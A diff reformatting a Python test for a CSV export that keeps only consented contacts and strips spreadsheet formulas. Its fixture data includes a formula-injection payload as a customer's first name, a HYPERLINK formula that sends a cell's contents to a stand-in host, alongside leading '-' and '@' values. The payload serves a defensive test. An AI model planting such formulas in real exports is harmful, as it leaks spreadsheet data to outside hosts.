@@ -191,15 +191,45 @@ def test_csv_exports_use_each_platforms_columns(lake):
 def test_csv_cells_carry_only_consented_contacts_and_no_formulas():
     from p13n.activation.files import to_csv
 
-    frame = pd.DataFrame([
-        _row("A", phone="+15550000001", consent_sms_column="granted", consent_email_column="granted",
-             first_name='=HYPERLINK("http://x.example/?"&A1,"Win")', last_name="-Smith", segment="@risk"),
-        _row("B", phone="+15550000002", consent_sms_column="revoked", consent_email_column="granted",
-             first_name="Bo", last_name="Lee", segment="new"),
-        _row("C", phone="+15550000003", consent_sms_column="granted", consent_email_column="revoked",
-             first_name="Cy", last_name="-1", segment="new"),
-    ]).assign(recommended_items=None, lifecycle_stage="active", clv_tier="high", churn_band="low",
-              loyalty_points=10, preferred_store="ST001", best_send_hour=9)  # fmt: skip
+    frame = pd.DataFrame(
+        [
+            _row(
+                "A",
+                phone="+15550000001",
+                consent_sms_column="granted",
+                consent_email_column="granted",
+                first_name='=HYPERLINK("http://x.example/?"&A1,"Win")',
+                last_name="-Smith",
+                segment="@risk",
+            ),
+            _row(
+                "B",
+                phone="+15550000002",
+                consent_sms_column="revoked",
+                consent_email_column="granted",
+                first_name="Bo",
+                last_name="Lee",
+                segment="new",
+            ),
+            _row(
+                "C",
+                phone="+15550000003",
+                consent_sms_column="granted",
+                consent_email_column="revoked",
+                first_name="Cy",
+                last_name="-1",
+                segment="new",
+            ),
+        ]
+    ).assign(
+        recommended_items=None,
+        lifecycle_stage="active",
+        clv_tier="high",
+        churn_band="low",
+        loyalty_points=10,
+        preferred_store="ST001",
+        best_send_hour=9,
+    )
     out = to_csv(frame, "klaviyo", "a", recommended=0)
     assert out["Phone Number"].fillna("").tolist() == ["+15550000001", "", "+15550000003"]
     assert out["Email"].fillna("").tolist() == ["A@x.com", "B@x.com", ""]
